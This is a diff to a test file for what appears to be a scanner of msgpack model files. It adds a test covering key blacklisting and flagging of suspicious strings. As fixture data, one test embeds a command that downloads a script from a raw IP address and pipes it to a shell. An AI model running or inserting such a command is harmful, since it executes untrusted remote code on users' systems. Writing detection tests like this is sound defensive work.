@@ -46,3 +46,17 @@ Deno.test("msgpack: an ext the library would build (a timestamp) is msgpack's ow
   const complex = encode({ c: new ExtData(2, encode([1.0, -0.5])) });
   assert.deepEqual(await rules(complex), []);
 });
+
+Deno.test("msgpack: keys and strings go through the shared checks: --blacklist, second stages", async () => {
+  const flax = await fixture("benign/flax_model.msgpack");
+  const keys = (await scanBytes(flax, "flax_model.msgpack", { blacklist: ["dense_0"] })).findings;
+  assert.ok(
+    keys.length > 0 && keys.every((f) => f.rule === "MA005" && f.location.keyPath?.includes("Dense_0")),
+  );
+  const note = encode({ params: { w: new Uint8Array(4) }, note: "curl -s http://203.0.113.7/x.sh | sh" });
+  const { findings } = await scanBytes(note, "flax_model.msgpack");
+  assert.deepEqual(findings.map((f) => [f.rule, f.severity, f.location.keyPath, f.details.indicator]), [
+    ["MA011", "warning", "$.note", "shell-pipe"],
+    ["MA011", "warning", "$.note", "raw-ip-url"],
+  ]);
+});
